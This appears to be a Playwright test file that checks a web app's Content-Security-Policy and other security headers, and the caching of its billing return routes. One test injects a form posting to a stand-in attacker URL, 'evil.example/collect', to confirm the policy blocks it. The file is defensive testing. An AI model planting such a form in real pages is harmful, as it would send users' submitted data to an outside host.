import { get, type IncomingHttpHeaders } from 'node:http'
import { environment } from './environment'
import { expect, test } from './fixtures'

// Every test also fails if the policy blocks something on our pages, because violations are console errors.

const stripe = 'https://checkout.stripe.com https://billing.stripe.com https://invoice.stripe.com'

test('limits form targets on every page', async ({ owner, page }) => {
  for (const path of ['/', '/pricing', '/sign-in', '/dashboard', '/account/billing', '/no-such-page']) {
    const response = await page.request.get(environment.appUrl + path)
    const policy = response.headers()['content-security-policy'] ?? ''
    expect(policy.split('; ')).toContain(`form-action 'self' ${stripe} http://localhost:* http://127.0.0.1:*`)
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).not.toContain('unsafe-eval')
    expect(response.headers()['x-content-type-options']).toBe('nosniff')
    expect(response.headers()['referrer-policy']).toBe('strict-origin-when-cross-origin')
    expect(response.headers()['x-powered-by']).toBeUndefined()
  }
  expect(owner.email).toContain('@')
})

test('does not allow forms to localhost on a public host', async () => {
  for (const path of ['/', '/pricing', '/sign-in']) {
    const policy = String((await headersAs('app.example.com', path))['content-security-policy'])
    expect(policy.split('; ')).toContain(`form-action 'self' ${stripe}`)
    expect(policy).not.toContain('localhost')
  }
})

test('blocks a form that posts to another site', async ({ page, problems }) => {
  await page.goto('/sign-in')
  const blocked = page.waitForEvent('console', (message) => message.text().includes('form-action'))
  await page.evaluate(() => {
    const form = document.createElement('form')
    form.action = 'https://evil.example/collect'
    form.method = 'post'
    document.body.append(form)
    form.submit()
  })
  await blocked
  expect(new URL(page.url()).pathname).toBe('/sign-in')
  expect(problems.splice(0)).toHaveLength(1)
})

test('returns uncacheable 303 responses from the return routes', async ({ owner, page }) => {
  const paths = ['subscription_canceled', 'payment_method_updated', 'subscription_started', 'portal_returned']
  for (const path of paths) {
    const response = await page.request.get(`${environment.appUrl}/account/${path}`, { maxRedirects: 0 })
    expect(response.status()).toBe(303)
    expect(response.headers()['cache-control']).toBe('no-store')
    expect(response.headers().location).toBe(`${environment.appUrl}/account/billing?flow=none`)
  }
  expect(owner.teamId).toBeTruthy()
})

/** The response headers for another Host header, which fetch would not send. */
function headersAs(host: string, path: string): Promise<IncomingHttpHeaders> {
  return new Promise((resolve, reject) => {
    get(environment.appUrl + path, { headers: { host } }, (response) => {
      response.resume()
      resolve(response.headers)
    }).on('error', reject)
  })
}
